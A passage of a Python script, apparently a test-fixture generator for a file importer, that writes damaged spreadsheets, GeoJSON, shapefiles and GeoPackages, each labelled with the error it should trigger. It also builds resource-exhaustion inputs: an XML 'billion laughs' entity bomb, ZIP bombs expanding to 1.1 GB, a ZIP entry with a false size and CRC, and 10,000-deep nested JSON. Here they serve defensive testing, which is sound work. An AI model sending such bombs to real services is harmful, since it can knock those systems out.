    bad("no_cells.xlsx", simple([]), "import-no-sheet", "a new workbook: one sheet, no cell")
    bad("titles_only.xlsx", simple([["企业名录（测试）"], ["说明文字"]]), "import-no-header", "a workbook of titles")
    bad("header_only.xlsx", simple(rows[:1]), "import-no-rows", "a workbook with a header and no row")
    bad("no_name_column.xlsx", simple([r[1:] for r in rows]), "import-no-name-column", "a workbook without names")
    book = Book()
    book.sheet(SHEET, rows)
    parts = book.parts()
    cut = [(n, x[: len(x) * 2 // 3] if n.endswith("sheet1.xml") else x) for n, x in parts]
    bad("broken_xml.xlsx", zipped(cut), "import-damaged", "a sound ZIP whose sheet ends in the middle of its XML")
    bad("missing_part.xlsx", zipped([p for p in parts if not p[0].endswith("sheet1.xml")]), "import-damaged",
        "the workbook names a sheet that is not in the ZIP")
    bad("missing_strings.xlsx", zipped([p for p in parts if "sharedStrings" not in p[0]]), "import-damaged",
        "the cells point to shared strings that are not in the ZIP")
    laugh = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    entities = f'<!DOCTYPE sst [<!ENTITY l0 "哈哈哈哈">{laugh}]>'
    book = Book()
    book.sheet(SHEET, rows + [[Raw("<t>&l9;</t>")]])
    xml = [(n, x.replace(HEAD, HEAD + entities) if "sharedStrings" in n else x) for n, x in book.parts()]
    bad("entity_bomb.xlsx", zipped(xml), "import-damaged", "«billion laughs»: a workbook has no business with entities",
        **{"or": ["import-bomb"]})
    sheet = dict(parts)["xl/worksheets/sheet1.xml"].encode()
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = squeeze.compress(sheet + b" " * 400_000) + squeeze.flush()
    lie = (stream, zlib.crc32(sheet[:200]), 200)
    bad("lying_size.xlsx", zip_with(parts, {"xl/worksheets/sheet1.xml": lie}), "import-damaged",
        "the ZIP says the sheet has 200 bytes (and their CRC), but 400 kB come out")
    # A row of 31 kB (within the window of deflate), so that the limit of rows is not passed before that of bytes.
    row = ('<row><c t="inlineStr"><is><t>' + "测" * 10_500 + "</t></is></c></row>").encode()
    times = (1 << 30) // len(row) + 700
    head = f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData><row><c t="inlineStr"><is><t>企业名称</t></is></c></row>'.encode()
    bomb = deflated(head, row, times, b"</sheetData></worksheet>")
    assert bomb[2] > 1 << 30
    bad("bomb_sheet.xlsx", zip_with(parts, {"xl/worksheets/sheet1.xml": bomb}), "import-bomb",
        "a sheet of 1.1 GB that takes 1 MB in the ZIP", **{"or": ["import-too-much-text"]})
    item = ("<si><t>" + "测" * 10_500 + "</t></si>").encode()
    times = (1 << 30) // len(item) + 700
    bomb = deflated(f'{HEAD}<sst xmlns="{MAIN}">'.encode(), item, times, b"</sst>")
    assert bomb[2] > 1 << 30
    bad("bomb_shared_strings.xlsx", zip_with(parts, {"xl/sharedStrings.xml": bomb}), "import-bomb",
        "five rows, and shared strings of 1.1 GB that take 1 MB in the ZIP")
    inside = [header(SHORT) + ["备注"], typed(some[0], SHORT) + [Inline("长" * 100)]]
    book = Book()
    book.sheet(SHEET, inside)
    xml = dict(book.parts())["xl/worksheets/sheet1.xml"].encode()
    a, b = xml.split(("长" * 100).encode())
    cell = deflated(a, "长".encode() * 1000, 17_500, b)
    bad("cell_too_long.xlsx", zip_with(book.parts(), {"xl/worksheets/sheet1.xml": cell}), "import-cell-too-long",
        "a cell of 52 MB in a known column", line=2)
    bad("truncated.ods", (HERE / "good/ods_plain.ods").read_bytes()[:1500], "import-damaged", "the head of an .ods")


def bad_geographic():
    some = firms(4, 230)
    features = [{"type": "Feature", "properties": {"企业名称": f.name}, "geometry": {
        "type": "Point", "coordinates": [f.lon, f.lat]}} for f in some]
    whole = json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False)
    bad("truncated.geojson", whole[: len(whole) * 2 // 3], "import-damaged", "GeoJSON that ends in the middle")
    squares = [{"type": "Feature", "properties": {"企业名称": f.name}, "geometry": {"type": "Polygon", "coordinates": [[
        [f.lon, f.lat], [f.lon + 0.01, f.lat], [f.lon, f.lat + 0.01], [f.lon, f.lat]]]}} for f in some]
    bad("polygons_only.geojson", json.dumps({"type": "FeatureCollection", "features": squares}, ensure_ascii=False),
        "import-no-points", "GeoJSON of areas")
    bad("no_features.geojson", '{"type": "FeatureCollection", "features": []}', "import-no-points",
        "GeoJSON without features", **{"or": ["import-empty", "import-no-rows"]})
    nested = '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"x":' + "[" * 10_000
    bad("nested.geojson", nested + "]" * 10_000 + '},"geometry":null}]}', "import-damaged",
        "GeoJSON nested 10,000 deep: no stack may overflow", **{"or": ["import-no-name-column", "import-no-header"]})
    fields = [("企业名称", "C", 80, 0)]
    shp, shx, dbf = shapefile_parts(fields, [(f.lon, f.lat, (f.name,)) for f in some], "gbk")
    bad("no_dbf.shp", shp, "import-missing-part", "a shapefile without .dbf beside it")
    bad("no_dbf.zip", zipped([("points.shp", shp), ("points.shx", shx)]), "import-missing-part",
        "a shapefile without .dbf in a ZIP")
    bad("truncated_shp.zip", zipped([("points.shp", shp[:110]), ("points.shx", shx), ("points.dbf", dbf[:60])]),
        "import-damaged", "a shapefile whose parts are cut off")
    columns = [("企业名称", "TEXT")]
    good("attributes_only.gpkg", geopackage("companies", columns, [(f.name,) for f in some], data_type="attributes"),
         len(some), "a GeoPackage with a table of attributes but none of features: a table like any other",
         first={"name_zh": some[0].name})
    bad("polygons.gpkg", geopackage("areas", columns, [(gpkg_square(f.lon, f.lat, 4326), f.name) for f in some],
                                    kind="POLYGON"), "import-no-points", "a GeoPackage of areas")
    whole = geopackage("companies", columns, [(gpkg_point(f.lon, f.lat, 4326), f.name * 20) for f in some])
    bad("truncated.gpkg", whole[: len(whole) // 2 // 1024 * 1024], "import-damaged", "the first half of a GeoPackage")

    def plain(db):
        db.execute("CREATE TABLE 企业 (企业名称 TEXT, 区 TEXT)")
        db.executemany("INSERT INTO 企业 VALUES (?,?)", [(f.name, f.district) for f in some])

    bad("not_a_geopackage.gpkg", sqlite_bytes(plain), "import-unknown-format", "a SQLite database that is no GeoPackage",
        **{"or": ["import-no-points"]})


def main():
    for folder in ("good", "bad"):
        shutil.rmtree(HERE / folder, ignore_errors=True)
        (HERE / folder).mkdir()
    encodings()
    lines_and_delimiters()
    headers()
    values()
    positions()
    workbooks()
    other_workbooks()
    wrong_extensions()
    geographic()
    bad_texts()
    bad_workbooks()
    bad_geographic()
    size = sum(p.stat().st_size for folder in ("good", "bad") for p in (HERE / folder).iterdir())
    assert size < 3_000_000, size
    print(f"{sum(f == 'good' for f, _ in MADE)} good, {sum(f == 'bad' for f, _ in MADE)} bad, {size} bytes")


if __name__ == "__main__":
    main()
